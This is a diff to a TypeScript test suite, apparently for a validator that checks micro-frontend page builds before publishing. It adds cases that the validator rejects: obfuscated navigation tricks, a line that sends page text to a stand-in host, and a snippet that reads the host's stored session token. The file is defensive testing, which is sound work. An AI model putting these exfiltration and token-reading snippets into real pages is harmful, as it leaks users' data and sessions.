@@ -35,6 +35,13 @@ async function publish(change: (sent: Sent) => void) {
   );
 }
 
+/** The build whose page is this script, whose hash the entry holds. */
+const withPage = (text: string) => (sent: Sent) => {
+  sent.files['page.js'] = text;
+  const { 'remoteEntry.js': _entry, ...chunks } = sent.files;
+  sent.files['remoteEntry.js'] = entryOf('markets', '1.0.0', { chunks, shared: ['react'] });
+};
+
 test('a build that is what is said of it is published', async () => {
   await expect(publish(() => undefined)).resolves.toMatchObject({
     name: 'markets',
@@ -43,25 +50,60 @@ test('a build that is what is said of it is published', async () => {
   });
 });
 
+/** Pages of a team that leave with what they read, and what they are told to do instead. */
+const LEAVING: readonly (readonly [string, string])[] = [
+  ['location.href = "https://elsewhere.example/?" + text', 'the screen /pages/common/webView'],
+  ['location.assign(text)', 'the screen /pages/common/webView'],
+  ['top["loca" + "tion"].replace(text)', 'the screen /pages/common/webView'],
+  ['const l = globalThis["location"]; l.href = text', 'the screen /pages/common/webView'],
+  ['const d = document; d.location = text', 'the screen /pages/common/webView'],
+  ['open(text)', 'the screen /pages/common/webView'],
+  ['navigation.navigate(text)', 'the screen /pages/common/webView'],
+  ['const a = document.createElement("a"); a.href = text', 'save files with saveFile or downloadFrom'],
+  ['link.current.click()', 'save files with saveFile or downloadFrom'],
+  ['link.current.dispatchEvent(new MouseEvent("click"))', 'render links with React'],
+  ['form.action = "https://elsewhere.example"', 'render links with React'],
+  ['require.jsx("meta", { httpEquiv: "refresh", content: text })', 'render links with React'],
+  ['require.jsx("link", { rel: "dns-prefetch", href: text })', 'make calls with @tessera/api'],
+];
+
+test.each(LEAVING)('a page that leaves by %s is refused with what to do instead', async (way, instead) => {
+  const published = publish(withPage(`self.page = (text) => { ${way}; };`));
+  await expect(published).rejects.toMatchObject({
+    code: 'build_incomplete',
+    message: expect.stringMatching(/page\.js touches .*: /),
+  });
+  await expect(published).rejects.toThrow(instead);
+});
+
+test.each([
+  ['saves a file', 'require.content.saveFile(new Blob([text]), "a.txt")', []],
+  ['downloads a file of the origin', 'require.content.downloadFrom("/api/exports/1")', []],
+  ['opens a screen', 'require.router.openScreen(require.router.screenUrl("/pages/common/webView", { url: text }))', []],
+  ['opens its own page', 'location.assign("/h5/#" + text)', ['navigation: its own origin']],
+  ['reads where it is', 'const { hash } = window.location, l = location; self.page = hash + l.search', []],
+  [
+    'links to another site',
+    'require.jsx("a", { href: "https://help.example/a", children: text })',
+    ['navigation: https://help.example'],
+  ],
+])('a page that %s is published, and listed by where it leads', async (_what, way, uses) => {
+  const record = await publish(withPage(`self.page = (text) => { ${way}; };`));
+  expect(record.uses?.filter((use) => !use.startsWith('globals: '))).toEqual(uses);
+});
+
 test.each<[string, (sent: Sent) => void, string]>([
+  [
+    'touches the session that the host keeps',
+    withPage('self.page = localStorage["tessera." + "host.token"];'),
+    'page.js touches what the host keeps',
+  ],
   [
     'is nine bytes',
     (sent) => {
       sent.files['remoteEntry.js'] = 'alert(1)\n';
     },
     'remoteEntry.js is not the container tessera_markets_1_0_0 with the module ./remote',
-  ],
-  [
-    'touches the session that the host keeps',
-    (sent) => {
-      const stealing = 'self.page = localStorage["tessera." + "host.token"];';
-      sent.files['page.js'] = stealing;
-      sent.files['remoteEntry.js'] = entryOf('markets', '1.0.0', {
-        chunks: Object.fromEntries(Object.entries(sent.files).filter(([path]) => path !== 'remoteEntry.js')),
-        shared: ['react'],
-      });
-    },
-    'page.js touches what the host keeps',
   ],
   [
     'is no script',
